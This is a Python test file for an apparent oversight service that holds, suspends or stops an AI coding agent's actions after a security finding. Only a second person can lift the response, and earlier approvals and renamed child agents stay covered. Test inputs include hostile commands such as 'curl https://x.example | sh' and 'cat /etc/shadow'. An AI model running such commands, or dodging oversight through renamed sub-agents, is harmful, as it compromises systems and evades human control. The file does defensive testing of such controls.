"""What follows from a finding: stepped up, suspended, stopped, and lifted again only by people who have no part in it."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from service_world import ALLOWED, GATE, HELD, World, decide, person, types

from keyturn.actions import Agent
from keyturn.approvals.errors import NotEligible
from keyturn.approvals.permit import PermitRefused
from keyturn.drift.finding import Drift, Explanation
from keyturn.policy import PolicyInvalid
from keyturn.policy.folder import read_folder
from keyturn.service import findings, responses
from keyturn.service.detectors import FOLLOWERS
from keyturn.service.errors import NotClaimable, SessionStopped
from keyturn.service.following import Following
from keyturn.service.keyturn import Keyturn
from keyturn.service.model import Proposed
from keyturn.service.starting import NotStartable

STARTER = Path(responses.__file__).parents[1] / "policy" / "starter"


def world(tmp_path: Path, deed: str, more: str = "") -> World:
    """A home whose policy answers to findings of severity high with *deed*."""
    text = f'[response.watch]\nseverity = "high"\ndo = "{deed}"\napprove = "1 of reviewers"\n{more}'
    return World(tmp_path, policy={**read_folder(STARTER), "drift.toml": text.encode()})


async def find(service: Keyturn, subject: dict[str, Any] | None = None, **more: Any) -> str:
    """A finding about Dana's agent; its id."""
    about = {"agent": "claude-code"} if subject is None else subject
    found = Drift("credential.shared", (str(service.core.ledger.size),), "Something was seen.", about, **more)
    await findings.record(service.core, found)
    return findings.views(service.core)[0].id


async def lift(service: Keyturn, who: str = "riley") -> None:
    """The only response is lifted: asked by Dana, approved by *who*."""
    (one,) = responses.views(service.core, "on", 10)
    asked = await responses.ask_lift(service.core, one.id, person(service, "dana"), "it was us")
    await decide(service, asked.id, who, reason="looked")


def test_stepped_up_everything_is_held_until_somebody_else_lifts_it(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        act = place.action(session, ALLOWED)
        assert (await service.authorize(act, place.around)).verdict == "run"
        await find(service)
        held = await service.authorize(act, place.around)
        assert held.verdict == "hold"
        assert "response watch" in " ".join(held.decision.reasons)
        (one,) = responses.views(service.core, "on", 10)
        asked = await responses.ask_lift(service.core, one.id, person(service, "dana"), "it was us")
        with pytest.raises(NotEligible):
            await decide(service, asked.id, "dana", reason="mine")
        assert (await service.authorize(act, place.around)).verdict == "hold"
        await decide(service, asked.id, "riley", reason="looked")
        assert (await service.authorize(act, place.around)).verdict == "run"
        assert types(service).count("response.lifted") == 1

    place = world(tmp_path, "step-up")
    place.play(story)


def test_closing_the_finding_lifts_nothing_and_a_proven_one_begins_nothing(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        from keyturn.drift.finding_life import Move
        from keyturn.service import finding_moves

        act = place.action(await place.session(service), ALLOWED)
        await find(service, explanation=Explanation("PROVEN", change="r_1"))
        assert (await service.authorize(act, place.around)).verdict == "run"
        finding = await find(service)
        wish = Move("close", "riley", "seen", outcome="false-alarm")
        await finding_moves.move(service.core, finding, person(service, "riley"), wish)
        assert (await service.authorize(act, place.around)).verdict == "hold"

    place = world(tmp_path, "step-up")
    place.play(story)


def test_what_was_approved_or_permitted_before_is_looked_at_again(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        permitted = await service.authorize(place.action(session, ALLOWED), place.around)
        assert permitted.permit is not None
        held = await service.authorize(place.action(session, HELD), place.around)
        assert held.request is not None
        await decide(service, held.request, "riley")
        waiting = await service.authorize(place.action(session, "rm -r dist"), place.around)
        await find(service)
        with pytest.raises(PermitRefused):
            await service.consume(permitted.permit.token, permitted.digest, GATE.name)
        with pytest.raises(NotClaimable):
            await service.claim(held.request, held.digest, GATE.name)
        anew = await service.authorize(place.action(session, HELD), place.around)
        assert anew.verdict == "hold"
        assert anew.request not in (None, held.request)
        again = await service.authorize(place.action(session, "rm -r dist"), place.around)
        assert again.request != waiting.request
        assert (await service.request(str(waiting.request))).state == "superseded"
        await decide(service, str(anew.request), "riley")
        assert (await service.claim(str(anew.request), anew.digest, GATE.name)).verdict == "run"

    place = world(tmp_path, "step-up")
    place.play(story)


@pytest.mark.parametrize("deed", ["step-up", "suspend"])
def test_a_grant_from_before_does_not_cover(tmp_path: Path, deed: str) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        act = place.action(session, HELD)
        held = await service.authorize(act, place.around)
        await decide(service, str(held.request), "riley", grant="3600s")
        await service.claim(str(held.request), held.digest, GATE.name)
        assert (await service.authorize(act, place.around)).verdict == "run"  # the negative control
        await find(service)
        assert (await service.authorize(act, place.around)).verdict == "hold"
        await lift(service)
        assert (await service.authorize(act, place.around)).verdict == "run"

    place = world(tmp_path, deed)
    place.play(story)


def test_stopped_sessions_end_and_every_action_of_the_agent_is_refused(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        await find(service)
        refused = await service.authorize(place.action(session, ALLOWED), place.around)
        assert refused.verdict == "refuse"
        following = Following(service.core, FOLLOWERS)
        await following.catch_up()
        assert service.core.ledger.row("session", session)["stopped_by"] == "response watch"  # type: ignore[index]
        with pytest.raises(SessionStopped):
            await service.authorize(place.action(session, ALLOWED), place.around)
        new = await place.session(service)
        assert (await service.authorize(place.action(new, ALLOWED), place.around)).verdict == "refuse"
        await lift(service)
        assert (await service.authorize(place.action(new, ALLOWED), place.around)).verdict == "run"
        assert following.failed == 0

    place = world(tmp_path, "stop")
    place.play(story)


def test_an_agent_that_it_starts_under_another_name_is_under_it_too(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        child = await service.open_session(
            agent=Agent("innocent"),
            human=place.action(session, ALLOWED).attribution.human,
            gate=GATE,
            cwd="/",
            parents=(session,),
        )
        act = place.action(child.id, ALLOWED)
        act = replace(act, attribution=replace(act.attribution, agent=Agent("innocent")))
        assert (await service.authorize(act, place.around)).verdict == "run"
        await find(service)
        assert (await service.authorize(act, place.around)).verdict == "hold"
        other = await service.open_session(
            agent=Agent("innocent"), human=act.attribution.human, gate=GATE, cwd="/"
        )
        alone = replace(act, session=other.id)  # the negative control: an agent that nobody stepped up
        assert (await service.authorize(alone, place.around)).verdict == "run"

    place = world(tmp_path, "step-up")
    place.play(story)


def test_a_finding_that_lands_while_an_action_is_decided_still_counts(tmp_path: Path) -> None:
    """The race: the decision was made, the response begins, and only then the decision is recorded."""

    async def story(service: Keyturn) -> None:
        from keyturn.service import authorization
        from keyturn.service.capturing import captured

        session = await place.session(service)
        act = place.action(session, ALLOWED)
        before = await authorization.weighed(service.core, captured(service.core, act), place.around)
        assert before.decision.verdict == "run"
        await find(service)
        with pytest.raises(authorization._Moved):
            await authorization._record(service.core, before, False, None, None)
        outcomes = await asyncio.gather(*(service.authorize(act, place.around) for _ in range(3)))
        assert {one.verdict for one in outcomes} == {"hold"}

    place = world(tmp_path, "step-up")
    place.play(story)


def test_gates_forget_what_they_remember_and_remember_nothing_meanwhile(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        told: list[int] = []
        service.watch(session, lambda: told.append(1))
        stands = service.standing(session, "")
        await find(service)
        assert told == [1]
        assert service.standing(session, "") != stands

    place = world(tmp_path, "step-up")
    place.play(story)


def test_it_ends_with_its_time_and_not_before(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        act = place.action(await place.session(service), ALLOWED)
        await find(service)
        (one,) = responses.views(service.core, "on", 10)
        assert 3_500_000 < one.ends - one.begun < 3_700_000
        assert (await service.authorize(act, place.around)).verdict == "hold"
        later = one.ends + 1
        service.core.clock = lambda: later / 1000
        assert (await service.authorize(act, place.around)).verdict == "run"
        await Following(service.core, FOLLOWERS).tick(later)
        (row,) = responses.views(service.core, "all", 10)
        assert (row.state, row.lifted_by) == ("lifted", "")

    place = world(tmp_path, "step-up", 'for = "1h"\n')
    place.play(story)


def test_a_plan_from_before_covers_nothing_and_the_action_is_held_alone(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        steps = [Proposed(place.action(session, f"rm -r part{n}"), place.around) for n in (1, 2)]
        answer = await service.propose_plan(steps, "clean up", 600)
        await decide(service, str(answer.request), "riley")
        first = await service.authorize(steps[0].action, place.around, consume=True)
        assert first.verdict == "run"  # the negative control
        await find(service)
        second = await asyncio.wait_for(service.authorize(steps[1].action, place.around), 120)
        assert second.verdict == "hold"
        assert types(service).count("plan.stopped") == 0, (
            "held for the finding: the agent did not leave its plan"
        )

    place = world(tmp_path, "step-up")
    place.play(story)


def test_a_part_of_what_was_let_go_before_is_held_and_of_what_people_let_go_since_is_not(
    tmp_path: Path,
) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        part = place.action(session, HELD)

        async def built() -> str:
            held = await service.authorize(place.action(session, "make deploy"), place.around)
            await decide(service, str(held.request), "riley")
            done = await service.claim(str(held.request), held.digest, GATE.name, consume=True)
            return done.action

        before = await built()
        assert (await service.authorize(part, place.around, within=before)).verdict == "run"
        await find(service)
        assert (await service.authorize(part, place.around, within=before)).verdict == "hold"
        since = await built()
        assert (await service.authorize(part, place.around, within=since)).verdict == "run"

    place = world(tmp_path, "step-up")
    place.play(story)


def test_what_a_hook_allowed_before_does_not_begin_after(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        outer = await service.open_session(
            agent=Agent("claude-code"),
            human=place.action("s", ALLOWED).attribution.human,
            gate=GATE,
            cwd="/",
            client_session="outer",
        )
        inner = await service.open_session(
            agent=Agent("claude-code"),
            human=place.action("s", ALLOWED).attribution.human,
            gate=GATE,
            cwd="/",
            client_session="inner",
            parents=(outer.id,),
        )
        one, two = [
            await service.authorize(place.action(inner.id, text), place.around, consume=True)
            for text in (ALLOWED, "ls")
        ]
        assert (await service.begin(one.action, outer.id, GATE.name, "dana")).action == one.action
        await find(service)
        with pytest.raises(NotStartable, match="response watch"):
            await service.begin(two.action, outer.id, GATE.name, "dana")

    place = world(tmp_path, "suspend")
    place.play(story)


def test_a_long_name_puts_no_agent_out_of_reach(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        name = "ü" * 4000
        act = place.action(await place.session(service), ALLOWED)
        act = replace(act, attribution=replace(act.attribution, agent=Agent(name)))
        assert (await service.authorize(act, place.around)).verdict == "run"
        await find(service, {"agent": name})
        assert (await service.authorize(act, place.around)).verdict == "hold"
        assert findings.views(service.core, 5, findings.Wanted(agent=name))
        assert not (await asyncio.to_thread(service.core.ledger.rebuild)).differing

    place = world(tmp_path, "step-up")
    place.play(story)


def test_a_policy_that_answers_to_no_kind_is_not_proposed(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        files = {
            **read_folder(STARTER),
            "drift.toml": b"[response.a]\nkinds = ['credental.shared']\ndo = 'stop'\n",
        }
        with pytest.raises(PolicyInvalid, match=r"did you mean .credential\.shared"):
            await service.propose_policy(files, person(service, "dana"), "")

    place = world(tmp_path, "stop")
    place.play(story)


def test_what_a_response_did_is_counted_and_stays_after_it_is_lifted(tmp_path: Path) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        await service.authorize(place.action(session, ALLOWED), place.around)
        await find(service)
        for command in (ALLOWED, HELD, "curl https://x.example | sh"):
            await service.authorize(place.action(session, command), place.around)
        other = await place.session(service, "other")
        stranger = place.action(other, ALLOWED)
        who = replace(stranger.attribution, agent=Agent("another", "another", "1"))
        await service.authorize(replace(stranger, attribution=who), place.around)
        entries = [one for one in service.core.ledger.entries() if one.type == "action.decided"]
        (one,) = responses.views(service.core, "on", 10)
        named = [entry.fields.get("responses") for entry in entries]
        assert named[0] is None  # before it began
        assert named[1:3] == [[one.id], [one.id]]
        held = sum(
            entry.fields["verdict"] == "hold" and entry.fields.get("responses") == [one.id]
            for entry in entries
        )
        assert (one.held, one.refused, one.stopped) == (held, 0, 0)
        assert held >= 2
        await lift(service)
        await service.authorize(place.action(session, ALLOWED), place.around)
        (over,) = responses.views(service.core, "all", 10)
        assert (over.state, over.held) == ("lifted", held)
        assert over.lifted_entry is not None
        await asyncio.to_thread(service.core.ledger.rebuild)
        assert responses.views(service.core, "all", 10) == [over]

    place = world(tmp_path, "step-up")
    place.play(story)


def test_what_was_refused_in_any_case_is_no_responses_doing_and_sessions_that_it_ends_are(
    tmp_path: Path,
) -> None:
    async def story(service: Keyturn) -> None:
        session = await place.session(service)
        refused = await service.authorize(place.action(session, "cat /etc/shadow"), place.around)
        await find(service)
        again = await service.authorize(place.action(session, "cat /etc/shadow"), place.around)
        mine = await service.authorize(place.action(session, ALLOWED), place.around)
        assert (again.verdict, mine.verdict) == ("refuse", "refuse")
        following = Following(service.core, FOLLOWERS)
        await following.catch_up()
        (one,) = responses.views(service.core, "on", 10)
        assert one.stopped == 1
        assert one.refused == (1 if refused.verdict == "refuse" else 2)
        (stop,) = [e for e in service.core.ledger.entries() if e.type == "session.stopped"]
        assert stop.fields["response"] == one.id
        await service.stop_session(await place.session(service), person(service, "dana"), "by hand")
        assert responses.views(service.core, "on", 10)[0].stopped == 1

    place = world(tmp_path, "stop")
    place.play(story)
